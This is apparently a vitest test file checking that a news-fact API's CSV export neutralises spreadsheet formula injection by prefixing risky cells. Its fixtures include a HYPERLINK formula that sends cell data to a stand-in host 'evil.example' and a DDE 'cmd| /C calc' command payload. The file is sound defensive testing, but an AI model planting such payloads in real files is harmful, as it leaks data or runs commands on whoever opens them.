import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../src/api/csv.ts';
import { parseCsv } from './helpers/csv.ts';
import { seedArticles } from './helpers/seed.ts';
import { type TestServer, startTestServer } from './helpers/test-server.ts';

// Sentences of our own that a spreadsheet would run as formulas if written as they are.
const FORMULA_SENTENCES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"12 tonnes") of magnets were shipped.',
  '+cmd|\' /C calc\'!A0 exports reached 40 tonnes.',
  '-2+3 was the code; shipments were 9 tonnes.',
  '@SUM(1+1) said the ministry, citing 17 tonnes.',
  '\t=1+1 tab-led row of 21 tonnes.',
  '\uff1d1+1 full-width sign before 33 tonnes.',
];
const PLAIN = 'Exports fell 3.5% from a year earlier.';

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer({
    seed: (store) =>
      seedArticles(store.db, [
        {
          url: 'https://csv.example/formulas',
          title: 'Formula-looking sentences',
          paragraphs: [...FORMULA_SENTENCES, PLAIN],
          facts: [
            ...FORMULA_SENTENCES.map((sentence) => {
              const text = /\d+ tonnes/.exec(sentence)![0];
              return { text, sentence, value: Number.parseInt(text, 10), confidence: 0.95, reasons: [] };
            }),
            { text: '3.5%', sentence: PLAIN, type: 'percentage' as const, value: -3.5, unit: '%', confidence: 0.95, reasons: [] },
          ],
        },
      ]),
  });
});
afterAll(async () => {
  await t.close();
});

describe('CSV exports and formula injection', () => {
  it("prefixes text cells that start with = + - @, tab, CR or a full-width sign with '", async () => {
    for (const path of ['/api/facts?format=csv', '/api/facts?format=csv&limit=50']) {
      const res = await t.req(path, { token: t.tokens.researcher });
      expect(res.status).toBe(200);
      const [header, ...rows] = parseCsv(await res.text());
      const col = (name: string) => header!.indexOf(name);
      const sentences = rows.map((r) => r[col('sentence')]);
      for (const s of FORMULA_SENTENCES) expect(sentences, path).toContain(`'${s}`);
      expect(sentences).toContain(PLAIN);
      // A negative number is a value, not a formula: it stays as it is.
      expect(rows.map((r) => r[col('value')])).toContain('-3.5');
    }
  });

  it('leaves other cells alone and quotes per RFC 4180 after prefixing', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
    expect(csvField('a=1')).toBe('a=1');
    expect(csvField(-12)).toBe('-12');
    expect(csvField(null)).toBe('');
  });
});
